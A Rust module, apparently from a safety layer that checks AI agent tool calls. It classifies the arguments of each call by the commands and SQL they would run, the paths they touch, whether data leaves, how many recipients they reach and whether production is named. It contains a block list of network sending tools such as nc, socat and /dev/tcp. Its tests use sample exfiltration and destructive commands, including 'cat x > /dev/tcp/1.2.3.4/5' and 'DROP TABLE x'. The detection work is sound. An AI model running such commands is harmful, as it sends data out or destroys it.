//! What the arguments of a call mean, whatever tool they are for: which commands would run, which SQL, which files are
//! touched, whether data would leave, how much money moves.

use std::collections::BTreeSet;

use assent_plan::Map;
use assent_plan::catalog::SideEffects;
use serde_json::Value;

use super::analysis::data;
use super::analysis::shell::{Script, Trait};
use super::analysis::sql::{Kind, Statements, looks_like_sql};

/// What a call would do. All lists are sorted but `commands`, which is in the order of running.
#[derive(Debug, Default)]
pub(super) struct Meaning {
    pub(super) commands: Vec<String>,
    pub(super) programs: Vec<String>,
    pub(super) shell: Vec<String>,
    pub(super) sql: Vec<String>,
    pub(super) tables: Vec<String>,
    pub(super) paths: Vec<String>,
    pub(super) data: Vec<String>,
    pub(super) sends: bool,
    pub(super) is_production: bool,
    pub(super) recipients: usize,
}

/// Arguments that hold commands, SQL or paths, whatever the tool.
const COMMAND_NAMES: &[&str] =
    &["command", "cmd", "script", "shell", "run", "entrypoint", "bash", "commands", "exec"];
const SQL_NAMES: &[&str] = &["sql", "statement", "statements", "ddl"];
const QUERY_NAMES: &[&str] = &["query", "queries", "migration"];
const PATH_NAMES: &[&str] = &[
    "path",
    "paths",
    "file",
    "files",
    "filename",
    "file_path",
    "filepath",
    "dir",
    "directory",
    "folder",
    "dest",
    "destination",
    "target",
    "source",
    "src",
    "output",
    "input",
    "key_file",
    "from_path",
    "to_path",
];

/// Programs that hand data to other machines.
const SENDERS: &[&str] = &[
    "nc", "ncat", "netcat", "socat", "scp", "sftp", "ftp", "lftp", "rsync", "ssh", "rclone", "telnet",
    "mail", "mailx", "sendmail", "mutt", "swaks", "s3cmd", "gsutil", "azcopy", "croc", "ngrok", "transfer",
    "/dev/tcp", "nslookup", "dig",
];

/// Words in names of tools that hand something to people or systems outside.
const SENDING_TOOLS: &[&str] = &[
    "email", "mail", "slack", "sms", "send", "post", "publish", "upload", "webhook", "notify", "message",
    "tweet", "share", "push",
];

/// A call, as far as its meaning depends on it.
#[derive(Debug, Clone, Copy)]
pub(super) struct Asked<'a> {
    pub(super) tool: &'a str,
    pub(super) is_known: bool,
    pub(super) side_effects: SideEffects,
    pub(super) arguments: &'a Map,
    /// All texts of the arguments.
    pub(super) text: &'a str,
}

impl Meaning {
    pub(super) fn of(asked: Asked<'_>) -> Self {
        let mut found = Gathered::new(asked);
        for (name, value) in asked.arguments {
            found.argument(name, value);
        }
        found.finish()
    }
}

struct Gathered<'a> {
    asked: Asked<'a>,
    script: Script,
    statements: Statements,
    paths: BTreeSet<String>,
}

impl<'a> Gathered<'a> {
    fn new(asked: Asked<'a>) -> Self {
        Self { asked, script: Script::default(), statements: Statements::default(), paths: BTreeSet::new() }
    }

    fn argument(&mut self, name: &str, value: &Value) {
        let lower = name.to_ascii_lowercase();
        match value {
            Value::String(text) => self.text(&lower, text),
            Value::Array(items) if COMMAND_NAMES.contains(&lower.as_str()) && lower != "commands" => {
                let words: Vec<&str> = items.iter().filter_map(Value::as_str).collect();
                self.script.add_words(&words);
            }
            Value::Array(items) => items.iter().for_each(|item| self.argument(name, item)),
            Value::Object(members) => {
                members.iter().for_each(|(name, value)| self.argument(name, value));
            }
            Value::Null | Value::Bool(_) | Value::Number(_) => {}
        }
    }

    fn text(&mut self, name: &str, text: &str) {
        if COMMAND_NAMES.contains(&name) {
            self.script.add_text(text);
        } else if is_shell_script(text) {
            self.shell_file(text);
        }
        if PATH_NAMES.contains(&name) && !text.contains("://") && text.len() <= 4096 {
            self.paths.insert(text.to_owned());
        }
        let of_database = ["sql", "database", "postgres", "mysql", "bigquery", "snowflake"];
        let is_certain = SQL_NAMES.contains(&name)
            || (QUERY_NAMES.contains(&name) && of_database.iter().any(|word| self.asked.tool.contains(word)));
        if is_certain {
            self.statements.add_certain(text);
        } else if self.asked.side_effects != SideEffects::Read && looks_like_sql(text) {
            self.statements.add(text);
        }
    }

    /// A script that is written, perhaps as a template: what stands for a value is no syntax of the shell.
    fn shell_file(&mut self, text: &str) {
        let was_unreadable = self.script.traits.contains(&Trait::Unreadable);
        self.script.add_text(text);
        if !was_unreadable && (text.contains("{{") || text.contains("{%")) {
            self.script.traits.remove(&Trait::Unreadable);
        }
    }

    fn finish(mut self) -> Meaning {
        for statement in std::mem::take(&mut self.script.statements) {
            self.statements.add_certain(&statement);
        }
        self.paths.extend(self.script.writes.iter().cloned());
        for command in &self.script.commands {
            let words = command.split_whitespace().skip(1).map(path_in);
            self.paths.extend(words.filter(|word| is_path(word)).map(str::to_owned));
        }
        let sends = self.sends();
        let mut text = self.asked.text.to_owned();
        self.script.commands.iter().for_each(|command| super::patterns::push_line(command, &mut text));
        Meaning {
            is_production: names_production(&text),
            recipients: recipients(self.asked.arguments),
            data: data::classes(&text).into_iter().map(|class| class.as_str().to_owned()).collect(),
            sends,
            shell: Trait::ALL
                .iter()
                .filter(|of| self.script.traits.contains(of))
                .map(|of| of.as_str().to_owned())
                .collect(),
            sql: self.statements.kinds.iter().map(|kind| kind.as_str().to_owned()).collect(),
            tables: self.statements.tables.into_iter().collect(),
            paths: self.paths.into_iter().collect(),
            programs: self.script.programs.into_iter().collect(),
            commands: self.script.commands,
        }
    }

    fn sends(&self) -> bool {
        let asked = self.asked;
        let by_tool = asked.side_effects == SideEffects::External && {
            let method = asked.arguments.get("method").and_then(Value::as_str);
            let reads = matches!(method, Some("GET" | "HEAD" | "get" | "head"));
            let is_http = asked.arguments.contains_key("url");
            let name = asked.tool.to_ascii_lowercase();
            let by_name = SENDING_TOOLS.iter().any(|word| name.contains(word));
            let has_body = asked.arguments.get("body").is_some_and(|body| !body.is_null());
            (is_http && (!reads || has_body)) || (by_name && !is_http) || (!asked.is_known && by_name)
        };
        by_tool
            || self.script.programs.iter().any(|program| SENDERS.contains(&program.as_str()))
            || self.script.commands.iter().any(|command| uploads(command))
            || self.statements.kinds.contains(&Kind::Export)
    }
}

/// How many addresses stand in arguments that are named for them.
fn recipients(arguments: &Map) -> usize {
    const NAMES: &[&str] = &["to", "cc", "bcc", "recipients", "numbers", "personalizations", "audience"];
    let count = |name: &String, value: &Value| match value {
        Value::Array(list) if NAMES.contains(&name.as_str()) => list.len(),
        Value::String(text) if NAMES.contains(&name.as_str()) => text.split([',', ';', '\n']).count(),
        Value::Object(members) => recipients(members),
        _ => 0,
    };
    arguments.iter().map(|(name, value)| count(name, value)).sum()
}

fn is_shell_script(text: &str) -> bool {
    text.starts_with("#!") && text.lines().next().is_some_and(|line| line.trim_end().ends_with("sh"))
}

/// The path in `@file`, `--option=path` and `host:path`.
fn path_in(word: &str) -> &str {
    if word.contains("://") { word } else { word.rsplit(['@', '=', ':']).next().unwrap_or(word) }
}

fn is_path(word: &str) -> bool {
    let rooted = ["/", "~", "./", "../"].iter().any(|start| word.starts_with(start));
    (rooted || word.contains('/') || word.starts_with('.')) && !word.contains("://") && word.len() <= 1024
}

/// Downloads send nothing but their address; anything that curl, wget and the like are told to send does.
fn uploads(command: &str) -> bool {
    let mut words = command.split_whitespace();
    let program = words.next().unwrap_or_default();
    let words: Vec<&str> = words.collect();
    let has = |wanted: &[&str]| words.iter().any(|word| wanted.iter().any(|option| word.starts_with(option)));
    match program {
        "curl" | "http" | "https" | "xh" => {
            has(&["-d", "--data", "-F", "--form", "-T", "--upload-file", "--json", "-X", "--request"])
                && !has(&["-XGET", "-XHEAD"])
                || words.iter().any(|word| matches!(*word, "POST" | "PUT" | "PATCH" | "DELETE"))
                || words.iter().any(|word| word.contains("$(") || word.contains('`'))
        }
        "wget" => has(&["--post-data", "--post-file", "--body-data", "--body-file", "--method"]),
        "aws" | "gcloud" | "az" => {
            words.iter().any(|word| matches!(*word, "cp" | "sync" | "mv" | "upload" | "put-object"))
        }
        "git" => words.first() == Some(&"push"),
        "docker" | "podman" => words.first() == Some(&"push"),
        "npm" | "cargo" | "twine" | "gem" => has(&["publish", "upload", "push"]),
        _ => false,
    }
}

/// Whether a text names production: as a word or a part of a name, but not `pre-prod`, `non-production` or
/// `production-ready`.
pub(super) fn names_production(text: &str) -> bool {
    const NAMES: &[&str] = &["prod", "production", "prd"];
    const BEFORE: &[&str] = &["non", "pre", "not", "no", "post"];
    const AFTER: &[&str] = &["like", "ready", "grade", "quality", "line", "lines", "cost", "costs"];
    if !["prod", "prd"].iter().any(|part| contains_ignoring_case(text, part)) {
        return false;
    }
    let words: Vec<String> = text
        .split(|c: char| !c.is_ascii_alphanumeric())
        .filter(|word| !word.is_empty())
        .map(str::to_ascii_lowercase)
        .collect();
    words.iter().enumerate().any(|(index, word)| {
        let plain = word.trim_end_matches(|c: char| c.is_ascii_digit());
        let before = index.checked_sub(1).and_then(|at| words.get(at)).map_or("", String::as_str);
        let after = words.get(index + 1).map_or("", String::as_str);
        NAMES.contains(&plain) && !BEFORE.contains(&before) && !AFTER.contains(&after)
    })
}

fn contains_ignoring_case(text: &str, part: &str) -> bool {
    text.as_bytes().windows(part.len()).any(|window| window.eq_ignore_ascii_case(part.as_bytes()))
}

#[cfg(test)]
mod tests {
    use assent_plan::Catalog;
    use serde_json::json;

    use super::*;

    fn of(tool: &str, arguments: Value) -> Meaning {
        let catalog = Catalog::builtin().unwrap();
        let arguments = arguments.as_object().unwrap();
        let text = super::super::patterns::joined(arguments);
        let known = catalog.get(tool);
        let side_effects = known.map_or(SideEffects::External, |tool| tool.side_effects);
        Meaning::of(Asked { tool, is_known: known.is_some(), side_effects, arguments, text: &text })
    }

    #[test]
    fn commands_and_sql_are_found_wherever_they_stand() {
        assert_eq!(of("shell", json!({ "command": ["rm", "-r", "x"] })).commands, ["rm -r x"]);
        assert_eq!(of("ci_job", json!({ "steps": [{ "run": "make\nrm x" }] })).programs, ["make", "rm"]);
        assert_eq!(
            of("file_write", json!({ "path": "x.sh", "content": "#!/bin/sh\nrm x" })).programs,
            ["rm"]
        );
        assert!(of("file_write", json!({ "path": "x.txt", "content": "rm x" })).programs.is_empty());
        assert_eq!(
            of("sql_query", json!({ "database": "a", "statement": "DROP TABLE x" })).sql,
            ["ddl", "drop"]
        );
        assert_eq!(
            of("file_write", json!({ "path": "x.sql", "content": "DELETE FROM x" })).sql,
            ["delete", "unbounded"]
        );
        assert_eq!(of("shell", json!({ "command": "psql -c 'TRUNCATE x'" })).tables, ["x"]);
        assert!(of("web_search", json!({ "query": "drop table alternatives" })).sql.is_empty());
        assert_eq!(of("sql_query", json!({ "statement": "SELEC" })).sql, ["unreadable"]);
        assert!(of("code_gen", json!({ "template": "#!/bin/sh\n{% if x %}(" })).shell.is_empty());
    }

    #[test]
    fn data_that_leaves_is_told_from_data_that_comes() {
        for (tool, arguments, expected) in [
            ("http_request", json!({ "method": "GET", "url": "https://x" }), false),
            ("http_request", json!({ "method": "POST", "url": "https://x" }), true),
            ("http_request", json!({ "method": "GET", "url": "https://x", "body": "y" }), true),
            ("shell", json!({ "command": "curl -o x https://x" }), false),
            ("shell", json!({ "command": "curl -d @x https://x" }), true),
            ("shell", json!({ "command": "curl --upload-file x https://x" }), true),
            ("shell", json!({ "command": "scp x host:" }), true),
            ("shell", json!({ "command": "cat x > /dev/tcp/1.2.3.4/5" }), true),
            ("shell", json!({ "command": "aws s3 cp x s3://y" }), true),
            ("shell", json!({ "command": "make test" }), false),
            ("send_email", json!({ "to": "x" }), true),
            ("file_write", json!({ "path": "x", "content": "y" }), false),
        ] {
            assert_eq!(of(tool, arguments.clone()).sends, expected, "{tool} {arguments}");
        }
    }

    #[test]
    fn addresses_are_counted() {
        let of_mail = |arguments| of("send_email", arguments).recipients;
        assert_eq!(of_mail(json!({ "to": "a@x.dev, b@x.dev", "bcc": ["c@x.dev"] })), 3);
        assert_eq!(of_mail(json!({ "body": { "personalizations": [{}, {}] } })), 2);
        assert_eq!(of_mail(json!({ "text": "a, b, c" })), 0);
    }

    #[test]
    fn production_is_told_from_its_neighbours() {
        for (text, expected) in [
            ("api.prod.x.dev", true),
            ("PROD", true),
            ("prod-db-01", true),
            ("db_prod2", true),
            ("deploy to production", true),
            ("--env=prd", true),
            ("pre-prod", false),
            ("non-production", false),
            ("preprod", false),
            ("a product", false),
            ("production-ready code", false),
            ("reproduce", false),
        ] {
            assert_eq!(names_production(text), expected, "{text}");
        }
    }
}
